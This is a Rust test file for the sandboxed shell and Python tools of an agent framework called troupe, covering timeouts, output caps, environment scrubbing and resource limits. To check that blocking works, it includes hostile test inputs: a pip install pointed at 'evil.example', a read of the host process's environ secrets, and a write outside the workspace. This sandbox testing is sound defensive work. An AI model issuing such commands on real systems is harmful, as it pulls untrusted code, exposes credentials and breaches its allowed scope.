//! The tools that run programs: shell and python, with their limits.

use crate::common;

use serde_json::json;
use std::sync::Arc;
use std::time::Duration;
use troupe_config::tools::SandboxConfig;
use troupe_tools::process::ProcessLimits;
use troupe_tools::python::{PythonEnv, PythonOp, PythonTool};
use troupe_tools::shell::{RunSettings, SandboxSettings, ShellTool};
use troupe_tools::{Tool, ToolRegistry};

fn settings(output_max_bytes: usize) -> RunSettings {
    RunSettings {
        default_timeout: Duration::from_secs(20),
        max_timeout: Duration::from_secs(60),
        limits: ProcessLimits {
            cpu_seconds: 7,
            memory_mb: 512,
            open_files: 64,
        },
        output_max_bytes,
        path_var: "/usr/local/bin:/usr/bin:/bin".to_string(),
        // Required: every layer, as troupe runs tools by default; this test
        // binary is its own sandbox helper (troupe_sandbox::EARLY_HELPER).
        sandbox: SandboxSettings::from_config(&SandboxConfig::default()),
    }
}

fn shell(output_max_bytes: usize) -> ToolRegistry {
    common::registry(
        vec![Arc::new(ShellTool::new(settings(output_max_bytes)))],
        64 * 1024,
    )
}

/// Pids of live (non-zombie) processes whose command line contains `marker`.
fn live_with(marker: &str) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if !name.chars().all(|c| c.is_ascii_digit()) {
            continue;
        }
        // A zombie's command line is empty, so only live processes match.
        let cmdline = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
        if String::from_utf8_lossy(&cmdline).contains(marker) {
            found.push(name);
        }
    }
    found
}

/// Waits (briefly) for killed processes to finish exiting, then lists any left.
async fn left_behind(marker: &str) -> Vec<String> {
    for _ in 0..50 {
        if live_with(marker).is_empty() {
            return Vec::new();
        }
        tokio::time::sleep(Duration::from_millis(40)).await;
    }
    live_with(marker)
}

#[tokio::test]
async fn a_command_runs_in_the_workspace_and_reports_its_exit_code() {
    let (_d, ws) = common::workspace("sh-ok");
    let r = shell(8192);
    let obs = common::call(
        &r,
        &ws,
        "shell",
        json!({ "command": "echo out; echo err >&2; pwd" }),
    )
    .await;
    assert!(!obs.is_error, "{}", obs.text);
    let root = ws.root().display().to_string();
    assert_eq!(
        obs.text,
        format!(
            "the command exited with code 0\n--- stdout ---\nout\n{root}\n--- stderr ---\nerr\n"
        )
    );
    assert_eq!(obs.data["exit_code"], 0);

    let obs = common::call(
        &r,
        &ws,
        "shell",
        json!({ "command": "pwd; exit 3", "cwd": "src" }),
    )
    .await;
    assert!(obs.is_error);
    assert!(
        obs.text.starts_with("the command exited with code 3"),
        "{}",
        obs.text
    );
    assert!(obs.text.contains(&format!("{root}/src")), "{}", obs.text);

    let obs = common::call(
        &r,
        &ws,
        "shell",
        json!({ "command": "pwd", "cwd": "../.." }),
    )
    .await;
    assert!(obs.is_error);
    assert!(obs.text.contains("outside the workspace"), "{}", obs.text);
}

#[tokio::test]
async fn a_timeout_kills_the_command_and_every_child_it_forked() {
    let (_d, ws) = common::workspace("sh-timeout");
    let r = shell(8192);
    let marker = format!("30.{}7", std::process::id());
    let command = format!("sleep {marker} & sleep {marker}; echo never");
    let obs = common::call(
        &r,
        &ws,
        "shell",
        json!({ "command": command, "timeout_s": 1 }),
    )
    .await;
    assert!(obs.is_error);
    assert_eq!(obs.data["timed_out"], true);
    assert!(
        obs.text.starts_with("the command timed out after 1 s"),
        "{}",
        obs.text
    );
    assert!(!obs.text.contains("never"));
    assert_eq!(
        left_behind(&marker).await,
        Vec::<String>::new(),
        "processes left behind"
    );
}

#[tokio::test]
async fn background_processes_do_not_outlive_a_command_that_exits() {
    let (_d, ws) = common::workspace("sh-bg");
    let r = shell(8192);
    let marker = format!("29.{}3", std::process::id());
    let obs = common::call(
        &r,
        &ws,
        "shell",
        json!({ "command": format!("sleep {marker} & echo started") }),
    )
    .await;
    assert!(!obs.is_error, "{}", obs.text);
    assert!(obs.text.contains("started"));
    assert_eq!(
        left_behind(&marker).await,
        Vec::<String>::new(),
        "processes left behind"
    );
}

#[tokio::test]
async fn output_is_capped_while_it_is_read() {
    let (_d, ws) = common::workspace("sh-big");
    let r = shell(2000);
    let obs = common::call(
        &r,
        &ws,
        "shell",
        json!({ "command": "yes abcdefghi | head -c 300000" }),
    )
    .await;
    assert!(!obs.is_error, "{}", obs.text);
    assert!(obs.truncated);
    assert!(
        obs.text
            .contains("[output truncated: 1000 of 300000 bytes shown]"),
        "{}",
        obs.text
    );
    assert_eq!(obs.data["stdout_bytes"], 300000);
    assert!(obs.text.len() < 1200);
}

#[tokio::test]
async fn the_environment_is_scrubbed_and_limits_apply() {
    let (_d, ws) = common::workspace("sh-env");
    let r = shell(8192);
    let obs = common::call(&r, &ws, "shell", json!({ "command": "env" })).await;
    let allowed = [
        "PATH", "HOME", "LANG", "TERM", "PWD", "SHLVL", "OLDPWD", "_",
    ];
    let body = obs.text.split("--- stdout ---\n").nth(1).unwrap();
    for line in body.lines() {
        let key = line.split('=').next().unwrap();
        assert!(
            allowed.contains(&key),
            "variable {key} leaked into the child"
        );
    }
    assert!(
        std::env::vars().any(|(k, _)| k.starts_with("CARGO")),
        "the test itself has CARGO_* set"
    );
    let home = ws.tool_home().unwrap();
    assert!(body.contains(&format!("HOME={}", home.display())), "{body}");
    assert!(
        !home.starts_with(ws.root()),
        "HOME {} is inside the workspace {}",
        home.display(),
        ws.root().display()
    );

    let obs = common::call(
        &r,
        &ws,
        "shell",
        json!({ "command": "ulimit -n; ulimit -t; ulimit -v" }),
    )
    .await;
    assert!(
        obs.text.contains("--- stdout ---\n64\n7\n524288\n"),
        "{}",
        obs.text
    );
}

#[tokio::test]
async fn the_cpu_limit_stops_a_busy_loop() {
    let (_d, ws) = common::workspace("sh-cpu");
    let mut s = settings(4096);
    s.limits.cpu_seconds = 1;
    let r = common::registry(vec![Arc::new(ShellTool::new(s))], 4096);
    let obs = common::call(
        &r,
        &ws,
        "shell",
        json!({ "command": "while :; do :; done", "timeout_s": 30 }),
    )
    .await;
    assert!(obs.is_error);
    assert_eq!(obs.data["timed_out"], false, "{}", obs.text);
    assert!(obs.text.contains("signal"), "{}", obs.text);
}

/// Writes a minimal wheel for a one-module package with the test process's
/// own Python (the tools never see this environment).
fn build_wheel(dir: &std::path::Path) -> String {
    let name = "hellopkg-0.1-py3-none-any.whl";
    let script = format!(
        r#"
import zipfile
files = {{
    "hellopkg.py": "def greet():\n    return 'hello from hellopkg'\n",
    "hellopkg-0.1.dist-info/METADATA": "Metadata-Version: 2.1\nName: hellopkg\nVersion: 0.1\n",
    "hellopkg-0.1.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: troupe-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}}
files["hellopkg-0.1.dist-info/RECORD"] = "".join(f"{{p}},,\n" for p in list(files) + ["hellopkg-0.1.dist-info/RECORD"])
with zipfile.ZipFile({path:?}, "w") as z:
    for p, text in files.items():
        z.writestr(p, text)
"#,
        path = dir.join(name).display().to_string()
    );
    let status = std::process::Command::new("python3")
        .args(["-c", &script])
        .status()
        .unwrap();
    assert!(status.success());
    name.to_string()
}

#[tokio::test]
async fn python_makes_a_venv_installs_a_local_package_and_runs_code() {
    let (_d, ws) = common::workspace("py");
    let env = PythonEnv::new("python3", settings(8192));
    let tools: Vec<Arc<dyn Tool>> = vec![
        Arc::new(PythonTool::new(PythonOp::Venv, env.clone())),
        Arc::new(PythonTool::new(PythonOp::Install, env.clone())),
        Arc::new(PythonTool::new(PythonOp::Run, env)),
    ];
    let r = common::registry(tools, 8192);

    let obs = common::call(&r, &ws, "python_venv", json!({})).await;
    assert!(!obs.is_error, "{}", obs.text);
    assert_eq!(obs.data["created"], true);
    assert!(ws.root().join(".venv/bin/python").exists());
    let obs = common::call(&r, &ws, "python_venv", json!({})).await;
    assert_eq!(obs.data["created"], false);

    let wheel = build_wheel(&ws.root().join("research"));
    let obs = common::call(
        &r,
        &ws,
        "python_install",
        json!({ "packages": [format!("./research/{wheel}")], "offline": true }),
    )
    .await;
    assert!(!obs.is_error, "{}", obs.text);
    assert!(
        obs.text.contains("Successfully installed hellopkg-0.1"),
        "{}",
        obs.text
    );

    std::fs::write(
        ws.root().join("src/main.py"),
        "import sys, hellopkg\nprint(hellopkg.greet(), sys.argv[1:], sys.prefix.endswith('.venv'))\n",
    )
    .unwrap();
    let obs = common::call(
        &r,
        &ws,
        "python_run",
        json!({ "path": "src/main.py", "args": ["a", "b"] }),
    )
    .await;
    assert!(!obs.is_error, "{}", obs.text);
    assert!(
        obs.text.contains("hello from hellopkg ['a', 'b'] True"),
        "{}",
        obs.text
    );

    let obs = common::call(
        &r,
        &ws,
        "python_run",
        json!({ "code": "raise SystemExit('bad input')" }),
    )
    .await;
    assert!(obs.is_error);
    assert!(
        obs.text.contains("exited with code 1") && obs.text.contains("bad input"),
        "{}",
        obs.text
    );

    let obs = common::call(
        &r,
        &ws,
        "python_run",
        json!({ "code": "import time; time.sleep(30)", "timeout_s": 1 }),
    )
    .await;
    assert!(obs.is_error);
    assert_eq!(obs.data["timed_out"], true);

    let obs = common::call(&r, &ws, "python_run", json!({ "path": "src/missing.py" })).await;
    assert!(obs.is_error);
    assert!(obs.text.contains("does not exist"), "{}", obs.text);
    let obs = common::call(&r, &ws, "python_run", json!({})).await;
    assert!(obs.is_error);
    assert!(
        obs.text.contains("exactly one of `path` and `code`"),
        "{}",
        obs.text
    );

    let obs = common::call(
        &r,
        &ws,
        "python_install",
        json!({ "packages": ["--index-url=http://evil.example/simple", "six"] }),
    )
    .await;
    assert!(obs.is_error);
    assert!(
        obs.text.contains("pip options are not allowed"),
        "{}",
        obs.text
    );
}

#[tokio::test]
async fn a_shell_call_is_sandboxed_even_when_policy_allows_everything() {
    let (_data, ws) = common::workspace("sh-sandbox");
    // Not under /tmp: the sandbox's own /tmp is a throwaway tmpfs, where a
    // write "succeeds" without reaching the host.
    let host = tempfile::tempdir_in("/var/tmp").unwrap();
    let outside = host.path().join("outside.txt");
    std::fs::write(&outside, "host file\n").unwrap();
    let r = shell(8192);
    // Writing outside the workspace: refused by Landlock, with the rule named.
    let obs = common::call(
        &r,
        &ws,
        "shell",
        json!({ "command": format!("echo changed > {}", outside.display()) }),
    )
    .await;
    assert!(obs.is_error, "{}", obs.text);
    assert!(obs.text.contains("(sandbox:"), "{}", obs.text);
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "host file\n");
    // This process (troupe, holding the keys) is not in the sandbox's /proc,
    // and the command is in a PID namespace of its own.
    let me = std::process::id();
    let obs = common::call(
        &r,
        &ws,
        "shell",
        json!({ "command": format!("cat /proc/{me}/environ; echo; cat /proc/1/cmdline | tr '\\0' ' '") }),
    )
    .await;
    assert!(obs.text.contains("No such file"), "{}", obs.text);
    assert!(obs.text.contains("__troupe-sandbox"), "{}", obs.text);
    // No route out: only loopback.
    let obs = common::call(
        &r,
        &ws,
        "shell",
        json!({ "command": "cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '" }),
    )
    .await;
    assert_eq!(obs.text.lines().nth(2), Some("lo"), "{}", obs.text);
    assert_eq!(obs.text.lines().count(), 3, "{}", obs.text);
}
